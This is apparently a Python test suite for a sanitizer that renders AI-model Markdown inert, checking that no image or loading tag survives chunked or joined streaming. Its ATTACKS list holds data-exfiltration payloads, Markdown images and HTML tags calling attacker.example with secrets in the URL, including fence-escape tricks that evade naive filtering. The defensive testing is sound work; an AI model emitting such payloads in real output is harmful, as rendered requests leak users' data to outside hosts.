"""Model text made inert for ACP clients: no image or loading tag survives a CommonMark render,
however the text is cut into chunks and whether or not the client joins the messages, while
code in a fenced block stays as the model wrote it."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lovia_server.acp.inert_markdown import InertMarkdown, inert
from tests.support.rendered_markdown import MD as _MD
from tests.support.rendered_markdown import loads


def stream(chunks: list[str]) -> str:
    doc = InertMarkdown()
    return "".join(doc.feed(c) for c in chunks) + doc.end()


ATTACKS = [
    "![x](https://attacker.example/?d=secret)",
    "Look: ![x][r]\n\n[r]: https://attacker.example/r.png",
    "![r]\n\n[r]: https://attacker.example/r.png",
    "[![badge](https://attacker.example/b.svg)](https://example.com)",
    '<img src="https://attacker.example/i.png">',
    "text <IMG\nsrc=https://attacker.example/i.png>",
    "<picture><source srcset=https://attacker.example/s.png></picture>",
    "<div>\n<img src=https://attacker.example/i.png>\n</div>",
    "- <div><img src=https://attacker.example/i.png>",
    "> 1. <p>\n> <video poster=https://attacker.example/p.png>",
    # A fence inside a list item ends with the item: the image after it is live.
    "- a\n  ```\n![x](https://attacker.example/l.png)\n```\n![y](https://attacker.example/m.png)",
    # A fence inside an HTML block is no fence.
    "<div>\n```\n\n![x](https://attacker.example/h.png)\n```",
    "> ```\n![x](https://attacker.example/q.png)\n```\n![y](https://attacker.example/q2.png)",
    "```a`b\n![x](https://attacker.example/f.png)\n```\n![y](https://attacker.example/g.png)",
    "\\\\![x](https://attacker.example/e.png)",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_render_nothing_that_loads(text: str) -> None:
    assert loads(text), "the attack must load something as written"
    assert loads(inert(text)) == []
    # Cut everywhere: a piece per character.
    assert loads(stream(list(text))) == []


def test_an_image_split_after_the_bang_is_escaped_when_the_bracket_arrives() -> None:
    doc = InertMarkdown()
    assert doc.feed("See !") == "See "  # the "!" waits for what follows
    assert doc.feed("[chart](https://a.example/c.png)") == "\\![chart](https://a.example/c.png)"
    assert doc.feed(" Wow!") == " Wow"
    assert doc.feed(" done") == "! done"  # not an image after all: unchanged
    assert doc.end() == ""


def test_a_tag_name_split_across_chunks_is_judged_whole() -> None:
    doc = InertMarkdown()
    assert doc.feed("a <im") == "a "
    assert doc.feed("g src=x>") == "\\<img src=x>"
    assert doc.feed(" and <imgur> and Vec<String>") == " and <imgur> and Vec<String>"


def test_text_held_at_the_end_is_escaped_as_if_anything_could_follow() -> None:
    doc = InertMarkdown()
    assert doc.feed("wow!") == "wow"
    assert doc.end() == "!"  # as written; but should a client join "[x](u)" to it...
    assert doc.feed("[x](u)") == "\\[x](u)"  # ...it is no image
    doc = InertMarkdown()
    assert doc.feed("a <im") == "a "
    assert doc.end() == "\\<im"
    doc = InertMarkdown()
    assert doc.feed("C:\\") == "C:\\"
    assert doc.end() == "\\"  # the odd backslash doubled: it cannot escape the next "!"


def test_code_in_a_fenced_block_passes_unchanged() -> None:
    text = (
        "Here:\n```rust\nlet v = vec![1, 2];\nlet t: Vec<String> = x![a](b);\n"
        "// <img src=x>\n```\nAnd ~~~ too:\n~~~\n![not](an-image)\n~~~~\n"
    )
    assert inert(text) == text.replace("And ~~~", "And ~~~")
    assert stream(list(text)) == text
    assert loads(inert(text)) == []


def test_escapes_render_as_the_text_they_replace() -> None:
    text = "Wow! It works. a < b, <img src=x> and an ![image](https://a.example/i.png)"
    html = _MD.render(inert(text))
    assert "Wow! It works. a &lt; b, &lt;img src=x&gt;" in html
    assert '!<a href="https://a.example/i.png">image</a>' in html


def test_after_a_doubtful_fence_code_is_escaped_too() -> None:
    text = "1. step\n   ```\n   vec![1]\n   ```\n\n```\nvec![2]\n```\n"
    assert inert(text) == text.replace("vec![", "vec\\![")


def test_a_boundary_inside_a_fence_keeps_escaping_what_follows() -> None:
    doc = InertMarkdown()
    first = doc.feed("```\ncode ![a](b)\n") + doc.boundary()
    second = doc.feed("```\n![x](https://attacker.example/x.png)\n") + doc.end()
    assert first == "```\ncode ![a](b)\n"
    # Whether the client joined the two texts (the fence closes) or not (a fence opens).
    assert loads(first + second) == []
    assert loads(second) == []


def test_a_boundary_mid_line_judges_the_next_line_both_ways() -> None:
    doc = InertMarkdown()
    first = doc.feed("Let me look") + doc.boundary()
    second = doc.feed("```\n![x](https://attacker.example/x.png)\n```\n![y](https://a.example/y)")
    second += doc.end()
    assert loads(first + second) == []
    assert loads(second) == []


# ---------------------------------------------------------------------------- property

PIECES = [
    "![a](http://x.example/i.png)",
    "![a][r]",
    "![r]",
    "\n[r]: http://x.example/r.png\n",
    "!",
    "[",
    "](http://x.example/y.png)",
    "<img src=http://x.example/h.png>",
    "<",
    "img",
    " src=http://x.example/z.png>",
    "<div>",
    "</div>",
    "<!--",
    "-->",
    "```",
    "~~~",
    "````",
    "```py",
    "`",
    "\n",
    "\n\n",
    "\r\n",
    "  ",
    "    ",
    "\t",
    "- ",
    "1. ",
    "> ",
    "|",
    "| a | b |\n|---|---|\n",
    "---",
    "\\",
    "text",
    "vec![1]",
    "*",
]

documents = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(text=documents, cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=12))
def test_no_chunking_of_any_text_renders_anything_that_loads(text: str, cuts: list[int]) -> None:
    points = sorted({0, len(text), *(c % (len(text) + 1) for c in cuts)})
    chunks = [text[a:b] for a, b in itertools.pairwise(points)]
    assert loads(stream(chunks)) == []


@settings(max_examples=300, deadline=None)
@given(
    messages=st.lists(documents, min_size=2, max_size=4),
    joined=st.lists(st.booleans(), min_size=3, max_size=3),
)
def test_no_message_boundary_renders_anything_that_loads(
    messages: list[str], joined: list[bool]
) -> None:
    """The messages of one session through one stream, a boundary between them; the client
    joins each pair into one document or starts a new one."""
    doc = InertMarkdown()
    sent = [doc.feed(m) + doc.boundary() for m in messages]
    rendered = [sent[0]]
    for piece, join in zip(sent[1:], joined, strict=False):
        if join:
            rendered[-1] += piece
        else:
            rendered.append(piece)
    for document in rendered:
        assert loads(document) == []
